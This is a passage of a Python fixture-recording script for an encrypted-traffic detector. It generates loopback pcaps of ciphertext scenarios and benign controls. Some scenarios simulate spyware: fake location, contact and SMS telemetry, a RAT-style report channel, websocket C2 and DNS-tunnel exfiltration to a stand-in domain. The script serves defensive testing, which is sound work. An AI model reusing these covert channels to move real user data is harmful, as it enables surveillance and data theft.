#!/usr/bin/env python3
"""Re-record the framing fixtures: real ciphertext over real loopback sockets, captured by tcpdump.

Each scenario runs a small server and client on 127.0.0.1 with a port of its
own while tcpdump writes tests/data/framing/<scenario>.pcap; the expectations
(which findings each capture must and must not produce) live in
tests/data/framing/expected.json, written here next to the captures.

Ciphertexts come from `cryptography` (AES-CBC/ECB/CTR/GCM, ChaCha20-Poly1305,
RC4 with a reused key from the decrepit module, RSA-OAEP, ECDH P-256 and
X25519); benign controls are gzip'd HTTP, JPEG uploads (Pillow), protobuf over
HTTP/2 cleartext (h2 + protobuf), DNS (dnslib), plain JSON APIs, a
length-prefixed protobuf protocol and length-prefixed zlib.

Needs root (tcpdump on lo), the test extras and pillow/h2/protobuf.
Run: .venv/bin/python scripts/record_framing_fixtures.py [--only NAME]
"""
from __future__ import annotations

import argparse
import base64
import gzip
import io
import json
import logging
import os
import random
import signal
import socket
import struct
import subprocess
import threading
import time
import zlib
from pathlib import Path
from typing import Callable

from cryptography.hazmat.decrepit.ciphers.algorithms import ARC4
from cryptography.hazmat.primitives import hashes, padding, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa, x25519
from cryptography.hazmat.primitives.asymmetric import padding as apadding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM, ChaCha20Poly1305
from cryptography.hazmat.primitives.kdf.hkdf import HKDF

log = logging.getLogger("record_framing")
OUT_DIR = Path(__file__).resolve().parents[1] / "tests" / "data" / "framing"
HOST = "127.0.0.1"
rng = random.Random(20261122)  # plaintexts are reproducible; keys and IVs are fresh each run


# ---------------------------------------------------------------- plaintexts


def telemetry(i: int) -> bytes:
    """What a covert collector sends: location, contacts, SMS, ids (varying length)."""
    doc = {
        "seq": i,
        "device": "356938035643809",
        "ts": 1763769600 + i * 37,
        "loc": {"lat": round(48.1 + rng.random() / 10, 6), "lon": round(11.5 + rng.random() / 10, 6)},
        "contacts": [{"name": rng.choice(["Alice", "Bob", "Carol", "Dave"]), "phone": f"+4917{rng.randrange(10**7):07d}"} for _ in range(rng.randrange(1, 5))],
        "sms": [rng.choice(["see you at 8", "code 4471", "call me back", "ok"]) for _ in range(rng.randrange(0, 4))],
    }
    return json.dumps(doc).encode()


def records(i: int) -> bytes:
    """Fixed-width records (a contacts table dump): repeats at block boundaries under ECB."""
    rows = []
    for r in range(6 + i % 5):
        name = rng.choice(["Alice", "Bob", "Carol"]).ljust(16)
        rows.append(name.encode() + b"status=active\x00\x00\x00" + f"{r:016d}".encode())
    return b"".join(rows)


def pkcs7(data: bytes) -> bytes:
    p = padding.PKCS7(128).padder()
    return p.update(data) + p.finalize()


# ---------------------------------------------------------------- plumbing


def recv_exact(conn: socket.socket, n: int) -> bytes:
    buf = b""
    while len(buf) < n:
        chunk = conn.recv(n - len(buf))
        if not chunk:
            break
        buf += chunk
    return buf


def recv_some(conn: socket.socket, timeout: float = 0.3) -> bytes:
    conn.settimeout(timeout)
    try:
        return conn.recv(65536)
    except (TimeoutError, socket.timeout):
        return b""


class Capture:
    """tcpdump on lo for one port, started before and stopped after a scenario."""

    def __init__(self, path: Path, port: int, proto: str = "") -> None:
        self.path = path
        self.port = port
        self.proto = proto
        self.proc: subprocess.Popen[bytes] | None = None

    def __enter__(self) -> "Capture":
        flt = f"{self.proto} port {self.port}".strip()
        self.proc = subprocess.Popen(
            ["tcpdump", "-i", "lo", "--immediate-mode", "-U", "-s", "0", "-w", str(self.path), flt],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        assert self.proc.stderr is not None
        deadline = time.time() + 5
        while time.time() < deadline:  # wait for "listening on lo"
            line = self.proc.stderr.readline()
            if b"listening" in line:
                break
        time.sleep(0.1)
        return self

    def __exit__(self, *exc: object) -> None:
        time.sleep(0.3)
        assert self.proc is not None
        self.proc.send_signal(signal.SIGINT)
        self.proc.wait(timeout=5)


def tcp_pair(port: int, server: Callable[[socket.socket], None], client: Callable[[Callable[[], socket.socket]], None]) -> None:
    """Run ``server`` on each accepted connection in a thread; ``client`` gets a connect()."""
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind((HOST, port))
    ls.listen(8)
    stop = threading.Event()

    def serve() -> None:
        ls.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = ls.accept()
            except (TimeoutError, socket.timeout):
                continue
            with conn:
                conn.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                server(conn)

    t = threading.Thread(target=serve, daemon=True)
    t.start()

    def connect() -> socket.socket:
        s = socket.create_connection((HOST, port))
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return s

    client(connect)
    time.sleep(0.2)
    stop.set()
    t.join()
    ls.close()


def ack_server(reply: bytes = b"OK") -> Callable[[socket.socket], None]:
    def serve(conn: socket.socket) -> None:
        while True:
            data = recv_some(conn, 1.0)
            if not data:
                return
            conn.sendall(reply)

    return serve


def send_messages(messages: list[bytes], connections: int = 1) -> Callable[[Callable[[], socket.socket]], None]:
    """Client: one message per round trip (wait for the ack so runs stay separate)."""

    def run(connect: Callable[[], socket.socket]) -> None:
        per = max(1, len(messages) // connections)
        for c in range(connections):
            s = connect()
            for m in messages[c * per : (c + 1) * per] if c < connections - 1 else messages[c * per :]:
                s.sendall(m)
                recv_some(s, 1.0)
            s.close()
            time.sleep(0.05)

    return run


def udp_exchange(port: int, datagrams: list[bytes], reply: bytes = b"\x01") -> None:
    srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    srv.bind((HOST, port))
    srv.settimeout(1.0)
    cli = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    cli.bind((HOST, 0))
    for d in datagrams:
        cli.sendto(d, (HOST, port))
        data, addr = srv.recvfrom(65536)
        srv.sendto(reply, addr)
        cli.recvfrom(65536)
    cli.close()
    srv.close()


# ---------------------------------------------------------------- scenarios (ciphertext)

KEY16 = os.urandom(16)


def sc_aes_cbc_lenprefix(port: int) -> None:
    def enc(p: bytes) -> bytes:
        iv = os.urandom(16)
        e = Cipher(algorithms.AES(KEY16), modes.CBC(iv)).encryptor()
        body = iv + e.update(pkcs7(p)) + e.finalize()
        return struct.pack(">I", len(body)) + body

    tcp_pair(port, ack_server(b"\x00\x00\x00\x02ok"), send_messages([enc(telemetry(i)) for i in range(8)]))


def sc_aes_cbc_raw(port: int) -> None:
    def enc(p: bytes) -> bytes:
        iv = os.urandom(16)
        e = Cipher(algorithms.AES(KEY16), modes.CBC(iv)).encryptor()
        return iv + e.update(pkcs7(p)) + e.finalize()

    tcp_pair(port, ack_server(), send_messages([enc(telemetry(i)) for i in range(8)]))


def sc_aes_ecb(port: int) -> None:
    def enc(p: bytes) -> bytes:
        e = Cipher(algorithms.AES(KEY16), modes.ECB()).encryptor()
        return e.update(pkcs7(p)) + e.finalize()

    tcp_pair(port, ack_server(), send_messages([enc(records(i)) for i in range(6)]))


def sc_aes_ctr_static_nonce(port: int) -> None:
    nonce = os.urandom(16)

    def enc(p: bytes) -> bytes:
        e = Cipher(algorithms.AES(KEY16), modes.CTR(nonce)).encryptor()
        return e.update(p) + e.finalize()

    tcp_pair(port, ack_server(), send_messages([enc(telemetry(i)) for i in range(6)]))


def sc_aes_gcm_lenprefix(port: int) -> None:
    g = AESGCM(AESGCM.generate_key(bit_length=256))

    def enc(p: bytes) -> bytes:
        n = os.urandom(12)
        body = n + g.encrypt(n, p, None)
        return struct.pack(">H", len(body)) + body

    tcp_pair(port, ack_server(), send_messages([enc(telemetry(i)) for i in range(8)]))


def sc_chacha20_lenprefix(port: int) -> None:
    c = ChaCha20Poly1305(ChaCha20Poly1305.generate_key())

    def enc(p: bytes) -> bytes:
        n = os.urandom(12)
        body = n + c.encrypt(n, p, None)
        return struct.pack("<I", len(body)) + body

    tcp_pair(port, ack_server(), send_messages([enc(telemetry(i)) for i in range(8)]))


def sc_rc4_reused_key(port: int) -> None:
    """A new RC4 cipher with the same key per connection: keystreams restart (cross-flow)."""
    key = os.urandom(16)

    def enc(p: bytes) -> bytes:
        e = Cipher(ARC4(key), mode=None).encryptor()
        return e.update(p)

    tcp_pair(port, ack_server(), send_messages([enc(telemetry(i)) for i in range(3)], connections=3))


def _rsa_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def _oaep() -> apadding.OAEP:
    return apadding.OAEP(mgf=apadding.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None)


def sc_rsa_oaep_hybrid(port: int) -> None:
    """The wrapped AES key in its own message, then AES-GCM messages."""
    pub = _rsa_key().public_key()
    key = AESGCM.generate_key(bit_length=128)
    g = AESGCM(key)
    msgs = [pub.encrypt(key, _oaep())]
    for i in range(4):
        n = os.urandom(12)
        msgs.append(n + g.encrypt(n, telemetry(i), None))
    tcp_pair(port, ack_server(), send_messages(msgs))


def sc_rsa_oaep_envelope(port: int) -> None:
    """One message per upload: [u16 len][RSA-OAEP(key)][nonce][GCM ciphertext]."""
    pub = _rsa_key().public_key()
    msgs = []
    for i in range(4):
        key = AESGCM.generate_key(bit_length=128)
        n = os.urandom(12)
        wrapped = pub.encrypt(key, _oaep())
        msgs.append(struct.pack(">H", len(wrapped)) + wrapped + n + AESGCM(key).encrypt(n, telemetry(i), None))
    tcp_pair(port, ack_server(), send_messages(msgs))


def sc_ecies_p256(port: int) -> None:
    """ECIES-style: ephemeral P-256 public point (65 bytes, 04||X||Y) then AES-GCM."""
    server_pub = ec.generate_private_key(ec.SECP256R1()).public_key()
    msgs = []
    for i in range(4):
        eph = ec.generate_private_key(ec.SECP256R1())
        shared = eph.exchange(ec.ECDH(), server_pub)
        key = HKDF(hashes.SHA256(), 16, None, b"ecies").derive(shared)
        point = eph.public_key().public_bytes(serialization.Encoding.X962, serialization.PublicFormat.UncompressedPoint)
        n = os.urandom(12)
        msgs.append(point + n + AESGCM(key).encrypt(n, telemetry(i), None))
    tcp_pair(port, ack_server(), send_messages(msgs))


def sc_x25519_exchange(port: int) -> None:
    """32-byte X25519 keys both ways, then ChaCha20-Poly1305 records."""
    server_key = x25519.X25519PrivateKey.generate()

    def serve(conn: socket.socket) -> None:
        recv_exact(conn, 32)
        conn.sendall(server_key.public_key().public_bytes_raw())
        while recv_some(conn, 1.0):
            conn.sendall(b"\x00\x00")

    def client(connect: Callable[[], socket.socket]) -> None:
        s = connect()
        k = x25519.X25519PrivateKey.generate()
        s.sendall(k.public_key().public_bytes_raw())
        peer = x25519.X25519PublicKey.from_public_bytes(recv_exact(s, 32))
        c = ChaCha20Poly1305(HKDF(hashes.SHA256(), 32, None, b"x").derive(k.exchange(peer)))
        for i in range(4):
            n = os.urandom(12)
            s.sendall(n + c.encrypt(n, telemetry(i), None))
            recv_some(s, 1.0)
        s.close()

    tcp_pair(port, serve, client)


def _http_server(handler: Callable[[bytes, bytes], tuple[bytes, bytes]]) -> Callable[[socket.socket], None]:
    """A minimal keep-alive HTTP/1.1 server: handler(head, body) -> (headers, body)."""

    def serve(conn: socket.socket) -> None:
        buf = b""
        conn.settimeout(1.0)
        while True:
            while b"\r\n\r\n" not in buf:
                try:
                    chunk = conn.recv(65536)
                except (TimeoutError, socket.timeout):
                    return
                if not chunk:
                    return
                buf += chunk
            head, buf = buf.split(b"\r\n\r\n", 1)
            length = 0
            for line in head.split(b"\r\n")[1:]:
                if line.lower().startswith(b"content-length:"):
                    length = int(line.split(b":")[1])
            while len(buf) < length:
                buf += conn.recv(65536)
            body, buf = buf[:length], buf[length:]
            hdrs, rbody = handler(head, body)
            conn.sendall(b"HTTP/1.1 200 OK\r\n" + hdrs + b"Content-Length: %d\r\n\r\n" % len(rbody) + rbody)

    return serve


def _http_client(requests: list[bytes]) -> Callable[[Callable[[], socket.socket]], None]:
    def run(connect: Callable[[], socket.socket]) -> None:
        s = connect()
        for r in requests:
            s.sendall(r)
            time.sleep(0.05)
            recv_some(s, 1.0)
        s.close()

    return run


def _post(path: bytes, ctype: bytes, body: bytes, extra: bytes = b"") -> bytes:
    return (
        b"POST " + path + b" HTTP/1.1\r\nHost: collector.example\r\nUser-Agent: okhttp/4.12.0\r\n"
        + extra + b"Content-Type: " + ctype + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    )


def _json_ok(head: bytes, body: bytes) -> tuple[bytes, bytes]:
    return b"Content-Type: application/json\r\n", b'{"status":"ok"}'


def sc_http_json_envelope(port: int) -> None:
    """HTTP POST of {"k": b64(RSA-OAEP key), "iv", "d": b64(GCM)}: encoded ciphertext."""
    pub = _rsa_key().public_key()
    reqs = []
    for i in range(3):
        key = AESGCM.generate_key(bit_length=128)
        n = os.urandom(12)
        doc = {"v": 1, "k": base64.b64encode(pub.encrypt(key, _oaep())).decode(), "iv": base64.b64encode(n).decode(), "d": base64.b64encode(AESGCM(key).encrypt(n, telemetry(i), None)).decode()}
        reqs.append(_post(b"/api/v1/sync", b"application/json", json.dumps(doc).encode()))
    tcp_pair(port, _http_server(_json_ok), _http_client(reqs))


def sc_http_octet_cbc(port: int) -> None:
    """Raw AES-CBC bodies posted as application/octet-stream on one keep-alive connection."""
    reqs = []
    for i in range(6):
        iv = os.urandom(16)
        e = Cipher(algorithms.AES(KEY16), modes.CBC(iv)).encryptor()
        reqs.append(_post(b"/upload", b"application/octet-stream", iv + e.update(pkcs7(telemetry(i))) + e.finalize()))
    tcp_pair(port, _http_server(_json_ok), _http_client(reqs))


def sc_http_query_hex(port: int) -> None:
    """Ciphertext in a URL parameter (hex) and in a custom header (base64)."""
    reqs = []
    for i in range(3):
        n = os.urandom(12)
        ct = AESGCM(AESGCM.generate_key(bit_length=128)).encrypt(n, telemetry(i), None)
        reqs.append(
            b"GET /pixel.gif?id=" + str(i).encode() + b"&d=" + (n + ct).hex().encode() + b" HTTP/1.1\r\nHost: cdn.example\r\n"
            b"X-Trace: " + base64.b64encode(os.urandom(12) + ct).decode().encode() + b"\r\nUser-Agent: Dalvik/2.1.0\r\n\r\n"
        )
    tcp_pair(port, _http_server(lambda h, b: (b"Content-Type: image/gif\r\n", b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")), _http_client(reqs))


def sc_tcp_base64_lines(port: int) -> None:
    """A RAT-style text channel: one base64(IV + AES-CBC) line per report."""

    def enc(p: bytes) -> bytes:
        iv = os.urandom(16)
        e = Cipher(algorithms.AES(KEY16), modes.CBC(iv)).encryptor()
        return b"REPORT " + base64.b64encode(iv + e.update(pkcs7(p)) + e.finalize()) + b"\n"

    tcp_pair(port, ack_server(b"ACK\n"), send_messages([enc(telemetry(i)) for i in range(4)]))


def sc_benign_base64_json_lines(port: int) -> None:
    """Base64 of plain JSON over a text channel: encoded, but not ciphertext."""
    msgs = [b"EVENT " + base64.b64encode(telemetry(i)) + b"\n" for i in range(4)]
    tcp_pair(port, ack_server(b"ACK\n"), send_messages(msgs))


def sc_dns_tunnel(port: int) -> None:
    """Exfiltration through query names: base32 of RC4 ciphertext, one query (and socket) per chunk."""
    from dnslib import QTYPE, RR, TXT, DNSRecord

    data = Cipher(ARC4(os.urandom(16)), mode=None).encryptor().update((telemetry(0) + telemetry(1)) * 2)
    srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    srv.bind((HOST, port))
    srv.settimeout(1.0)
    for i in range(5):
        chunk = base64.b32encode(data[i * 35 : i * 35 + 35]).decode().rstrip("=").lower()
        name = ".".join([part for part in (chunk[:56], chunk[56:]) if part] + [f"s{i}", "t", "exfil-test.example"])
        cli = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        cli.sendto(DNSRecord.question(name, "TXT").pack(), (HOST, port))
        req, addr = srv.recvfrom(4096)
        rep = DNSRecord.parse(req).reply()
        rep.add_answer(RR(name, QTYPE.TXT, rdata=TXT("ok"), ttl=0))
        srv.sendto(rep.pack(), addr)
        cli.recvfrom(4096)
        cli.close()
    srv.close()


def ws_frame(payload: bytes, opcode: int = 1, masked: bool = True) -> bytes:
    """RFC 6455 §5.2 frame; clients mask with a fresh 4-byte key."""
    n = len(payload)
    head = bytes([0x80 | opcode]) + (bytes([(0x80 if masked else 0) | n]) if n < 126 else bytes([(0x80 if masked else 0) | 126]) + n.to_bytes(2, "big"))
    if not masked:
        return head + payload
    key = os.urandom(4)
    return head + key + bytes(b ^ key[i % 4] for i, b in enumerate(payload))


def _ws_pair(port: int, messages: list[bytes]) -> None:
    upgrade = b"GET /socket HTTP/1.1\r\nHost: push.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: " + base64.b64encode(os.urandom(16)) + b"\r\nSec-WebSocket-Version: 13\r\n\r\n"

    def serve(conn: socket.socket) -> None:
        recv_some(conn, 1.0)
        conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")
        while recv_some(conn, 1.0):
            conn.sendall(ws_frame(b'{"ok":true}', masked=False))

    def client(connect: Callable[[], socket.socket]) -> None:
        s = connect()
        s.sendall(upgrade)
        recv_some(s, 1.0)
        for m in messages:
            s.sendall(ws_frame(m))
            recv_some(s, 1.0)
        s.close()

    tcp_pair(port, serve, client)


def sc_websocket_b64(port: int) -> None:
    """A C2 channel over ws://: JSON text frames carrying base64(AES-GCM)."""
    g = AESGCM(AESGCM.generate_key(bit_length=128))
    msgs = []
    for i in range(4):
        n = os.urandom(12)
        msgs.append(json.dumps({"type": "report", "data": base64.b64encode(n + g.encrypt(n, telemetry(i), None)).decode()}).encode())
    _ws_pair(port, msgs)


def sc_benign_websocket_chat(port: int) -> None:
    _ws_pair(port, [json.dumps({"room": "general", "msg": rng.choice(["hi", "see you at 8", "ok"]), "n": i}).encode() for i in range(5)])


def sc_udp_aes_cbc(port: int) -> None:
    def enc(p: bytes) -> bytes:
        iv = os.urandom(16)
        e = Cipher(algorithms.AES(KEY16), modes.CBC(iv)).encryptor()
        return iv + e.update(pkcs7(p)) + e.finalize()

    udp_exchange(port, [enc(telemetry(i)) for i in range(8)])


def sc_udp_ctr_static(port: int) -> None:
    nonce = os.urandom(16)

    def enc(p: bytes) -> bytes:
        e = Cipher(algorithms.AES(KEY16), modes.CTR(nonce)).encryptor()
        return e.update(p) + e.finalize()

    udp_exchange(port, [enc(telemetry(i)) for i in range(6)])


# ---------------------------------------------------------------- scenarios (benign controls)


def sc_benign_http_gzip(port: int) -> None:
    pages = [json.dumps({"items": [{"id": i, "title": f"Article {i}", "body": "lorem ipsum " * rng.randrange(20, 80)} for i in range(10)]}).encode() for _ in range(4)]

    def handler(head: bytes, body: bytes) -> tuple[bytes, bytes]:
        return b"Content-Type: application/json\r\nContent-Encoding: gzip\r\n", gzip.compress(rng.choice(pages))

    reqs = [b"GET /feed?page=%d HTTP/1.1\r\nHost: news.example\r\nAccept-Encoding: gzip\r\nUser-Agent: okhttp/4.12.0\r\n\r\n" % i for i in range(4)]
    tcp_pair(port, _http_server(handler), _http_client(reqs))


def _jpeg() -> bytes:
    from PIL import Image, ImageDraw

    img = Image.new("RGB", (160, 120))
    draw = ImageDraw.Draw(img)
    for _ in range(120):
        x, y = rng.randrange(160), rng.randrange(120)
        draw.ellipse((x, y, x + rng.randrange(4, 40), y + rng.randrange(4, 40)), fill=(rng.randrange(256), rng.randrange(256), rng.randrange(256)))
    buf = io.BytesIO()
    img.save(buf, "JPEG", quality=90)
    return buf.getvalue()


def sc_benign_jpeg_upload(port: int) -> None:
    reqs = []
    for i in range(2):
        reqs.append(_post(b"/photos", b"image/jpeg", _jpeg()))
    boundary = b"----okhttp-boundary-7f3a"
    part = b"--" + boundary + b'\r\nContent-Disposition: form-data; name="file"; filename="IMG_0001.jpg"\r\nContent-Type: image/jpeg\r\n\r\n' + _jpeg() + b"\r\n--" + boundary + b"--\r\n"
    reqs.append(_post(b"/photos/multipart", b"multipart/form-data; boundary=" + boundary, part))
    tcp_pair(port, _http_server(_json_ok), _http_client(reqs))


def _protobuf_messages() -> list[bytes]:
    from google.protobuf import descriptor_pb2, struct_pb2

    out = []
    for i in range(5):
        s = struct_pb2.Struct()
        s.update({"user": f"user{i}", "score": rng.random() * 100, "tags": ["a", "b", "c"][: i % 3 + 1], "active": True})
        out.append(s.SerializeToString())
    fd = descriptor_pb2.FileDescriptorProto(name="telemetry.proto", package="app.v1")
    msg = fd.message_type.add(name="Event")
    for n, f in enumerate(("id", "kind", "payload", "ts"), 1):
        msg.field.add(name=f, number=n, type=descriptor_pb2.FieldDescriptorProto.TYPE_STRING)
    out.append(fd.SerializeToString())
    return out


def sc_benign_h2c_protobuf(port: int) -> None:
    """gRPC-style protobuf over HTTP/2 cleartext (prior knowledge), h2 on both ends."""
    import h2.config
    import h2.connection
    import h2.events

    bodies = _protobuf_messages()

    def serve(conn: socket.socket) -> None:
        h = h2.connection.H2Connection(h2.config.H2Configuration(client_side=False))
        h.initiate_connection()
        conn.sendall(h.data_to_send())
        conn.settimeout(1.0)
        while True:
            try:
                data = conn.recv(65536)
            except (TimeoutError, socket.timeout):
                return
            if not data:
                return
            for ev in h.receive_data(data):
                if isinstance(ev, h2.events.DataReceived):
                    h.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                if isinstance(ev, h2.events.StreamEnded):
                    reply = rng.choice(bodies)
                    h.send_headers(ev.stream_id, [(":status", "200"), ("content-type", "application/grpc")])
                    h.send_data(ev.stream_id, b"\x00" + struct.pack(">I", len(reply)) + reply)
                    h.send_headers(ev.stream_id, [("grpc-status", "0")], end_stream=True)
            conn.sendall(h.data_to_send())

    def client(connect: Callable[[], socket.socket]) -> None:
        s = connect()
        h = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        h.initiate_connection()
        s.sendall(h.data_to_send())
        for i, body in enumerate(bodies):
            sid = h.get_next_available_stream_id()
            h.send_headers(sid, [(":method", "POST"), (":scheme", "http"), (":authority", f"{HOST}:{port}"), (":path", "/app.v1.Telemetry/Report"), ("content-type", "application/grpc")])
            h.send_data(sid, b"\x00" + struct.pack(">I", len(body)) + body, end_stream=True)
            s.sendall(h.data_to_send())
            data = recv_some(s, 1.0)
            if data:
                h.receive_data(data)
                s.sendall(h.data_to_send())
        s.close()

    tcp_pair(port, serve, client)


def sc_benign_dns(port: int) -> None:
    """dnslib queries and answers over UDP and TCP on a non-53 port (structure, not port)."""
    from dnslib import AAAA, A, CNAME, QTYPE, RR, DNSRecord

    srv = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    srv.bind((HOST, port))
    srv.settimeout(1.0)
    cli = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    names = ["api.collector.example", "cdn.news.example", "mail.example.org"]
    for i, name in enumerate(names):
        q = DNSRecord.question(name, "AAAA" if i == 2 else "A")
        cli.sendto(q.pack(), (HOST, port))
        data, addr = srv.recvfrom(4096)
        req = DNSRecord.parse(data)
        rep = req.reply()
        if i == 1:
            rep.add_answer(RR(name, QTYPE.CNAME, rdata=CNAME("edge.cdn.example"), ttl=300))
            rep.add_answer(RR("edge.cdn.example", QTYPE.A, rdata=A("198.51.100.7"), ttl=60))
        elif i == 2:
            rep.add_answer(RR(name, QTYPE.AAAA, rdata=AAAA("2001:db8::25"), ttl=3600))
        else:
            rep.add_answer(RR(name, QTYPE.A, rdata=A("203.0.113.10"), ttl=120))
        srv.sendto(rep.pack(), addr)
        cli.recvfrom(4096)
    cli.close()
    srv.close()


def sc_benign_dns_tcp(port: int) -> None:
    from dnslib import QTYPE, RR, TXT, DNSRecord

    def serve(conn: socket.socket) -> None:
        ln = struct.unpack(">H", recv_exact(conn, 2))[0]
        req = DNSRecord.parse(recv_exact(conn, ln))
        rep = req.reply()
        rep.add_answer(RR(str(req.q.qname), QTYPE.TXT, rdata=TXT("v=spf1 include:_spf.example.org ~all"), ttl=300))
        out = rep.pack()
        conn.sendall(struct.pack(">H", len(out)) + out)

    def client(connect: Callable[[], socket.socket]) -> None:
        s = connect()
        q = DNSRecord.question("example.org", "TXT").pack()
        s.sendall(struct.pack(">H", len(q)) + q)
        recv_some(s, 1.0)
        s.close()

    tcp_pair(port, serve, client)


def sc_benign_json_api(port: int) -> None:
    """A plain JSON API: UUIDs, SHA-256 hex, a bearer token, cookies, timestamps."""
    import hashlib
    import uuid

    token = base64.urlsafe_b64encode(os.urandom(32)).rstrip(b"=")
    reqs = []
    for i in range(4):
        doc = {
            "id": str(uuid.uuid4()),
            "checksum": hashlib.sha256(str(i).encode()).hexdigest(),
            "event": rng.choice(["open", "scroll", "click"]),
            "ts": 1763769600 + i,
            "screen": {"w": 1080, "h": 2400, "density": 2.75},
            "items": [{"sku": f"SKU-{rng.randrange(10**6)}", "qty": rng.randrange(1, 4)} for _ in range(rng.randrange(1, 6))],
        }
        reqs.append(_post(b"/v2/events", b"application/json; charset=utf-8", json.dumps(doc).encode(), b"Authorization: Bearer " + token + b"\r\nCookie: sid=" + base64.b64encode(os.urandom(48)) + b"\r\n"))
    reqs.append(b"GET /v2/profile?fields=name,email&session=" + hashlib.sha256(b"s").hexdigest().encode() + b" HTTP/1.1\r\nHost: api.example\r\n\r\n")

    def handler(head: bytes, body: bytes) -> tuple[bytes, bytes]:
        return b"Content-Type: application/json\r\n", json.dumps({"ok": True, "etag": hashlib.md5(body).hexdigest(), "next": str(uuid.uuid4())}).encode()

    tcp_pair(port, _http_server(handler), _http_client(reqs))


def sc_benign_protobuf_lenprefix(port: int) -> None:
    """Length-prefixed protobuf over raw TCP (a cleartext binary RPC)."""
    msgs = [struct.pack(">I", len(m)) + m for m in _protobuf_messages()]
    tcp_pair(port, ack_server(b"\x00\x00\x00\x00"), send_messages(msgs))


def sc_benign_zlib_lenprefix(port: int) -> None:
    """Length-prefixed zlib-compressed JSON (compressed, not encrypted)."""
    msgs = []
    for i in range(6):
        z = zlib.compress(telemetry(i) * 3)
        msgs.append(struct.pack(">I", len(z)) + z)
    tcp_pair(port, ack_server(), send_messages(msgs))


def sc_benign_text_protocol(port: int) -> None:
    """A line-based text protocol (SMTP-like commands)."""
    msgs = [b"HELO phone.local\r\n", b"MAIL FROM:<a@example.org>\r\n", b"RCPT TO:<b@example.org>\r\n", b"DATA\r\n", b"Subject: hi\r\n\r\nsee you at 8\r\n.\r\n", b"QUIT\r\n"]
    tcp_pair(port, ack_server(b"250 OK\r\n"), send_messages(msgs))


# name: (function, transport, must-have findings (any of), must-not-have findings)
CIPHER = ["length_prefixed", "block_aligned_8", "block_aligned_16", "random_prefix", "rsa_blob", "ec_point", "repeated_blocks", "keystream_reuse", "encoded_ciphertext"]
SCENARIOS: dict[str, tuple[Callable[[int], None], str, list[str], list[str]]] = {
    "aes_cbc_lenprefix": (sc_aes_cbc_lenprefix, "tcp", ["length_prefixed", "block_aligned_16"], []),
    "aes_cbc_raw": (sc_aes_cbc_raw, "tcp", ["block_aligned_16"], []),
    "aes_ecb": (sc_aes_ecb, "tcp", ["repeated_blocks"], []),
    "aes_ctr_static_nonce": (sc_aes_ctr_static_nonce, "tcp", ["keystream_reuse"], []),
    "aes_gcm_lenprefix": (sc_aes_gcm_lenprefix, "tcp", ["length_prefixed"], []),
    "chacha20_lenprefix": (sc_chacha20_lenprefix, "tcp", ["length_prefixed"], []),
    "rc4_reused_key": (sc_rc4_reused_key, "tcp", ["keystream_reuse@crossflow"], []),
    "rsa_oaep_hybrid": (sc_rsa_oaep_hybrid, "tcp", ["rsa_blob"], []),
    "rsa_oaep_envelope": (sc_rsa_oaep_envelope, "tcp", ["rsa_blob"], []),
    "ecies_p256": (sc_ecies_p256, "tcp", ["ec_point"], []),
    "x25519_exchange": (sc_x25519_exchange, "tcp", ["ec_point"], []),
    "http_json_envelope": (sc_http_json_envelope, "tcp", ["encoded_ciphertext", "rsa_blob"], []),
    "http_octet_cbc": (sc_http_octet_cbc, "tcp", ["block_aligned_16"], []),
    "http_query_hex": (sc_http_query_hex, "tcp", ["encoded_ciphertext"], []),
    "udp_aes_cbc": (sc_udp_aes_cbc, "udp", ["block_aligned_16"], []),
    "tcp_base64_lines": (sc_tcp_base64_lines, "tcp", ["encoded_ciphertext"], []),
    "dns_tunnel": (sc_dns_tunnel, "udp", ["encoded_ciphertext@crossflow"], []),
    "websocket_b64": (sc_websocket_b64, "tcp", ["encoded_ciphertext"], []),
    "udp_ctr_static": (sc_udp_ctr_static, "udp", ["keystream_reuse"], []),
    "benign_http_gzip": (sc_benign_http_gzip, "tcp", [], CIPHER),
    "benign_jpeg_upload": (sc_benign_jpeg_upload, "tcp", [], CIPHER),
    "benign_h2c_protobuf": (sc_benign_h2c_protobuf, "tcp", [], CIPHER),
    "benign_dns": (sc_benign_dns, "udp", [], CIPHER),
    "benign_dns_tcp": (sc_benign_dns_tcp, "tcp", [], CIPHER),
    "benign_json_api": (sc_benign_json_api, "tcp", [], CIPHER),
    "benign_protobuf_lenprefix": (sc_benign_protobuf_lenprefix, "tcp", [], CIPHER),
    "benign_zlib_lenprefix": (sc_benign_zlib_lenprefix, "tcp", [], CIPHER),
    "benign_text_protocol": (sc_benign_text_protocol, "tcp", [], CIPHER),
    "benign_base64_json_lines": (sc_benign_base64_json_lines, "tcp", [], CIPHER),
    "benign_websocket_chat": (sc_benign_websocket_chat, "tcp", [], CIPHER),
}


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--only", action="append", help="record only these scenarios")
    ap.add_argument("--out", type=Path, default=OUT_DIR)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    args.out.mkdir(parents=True, exist_ok=True)
    expected_path = args.out / "expected.json"
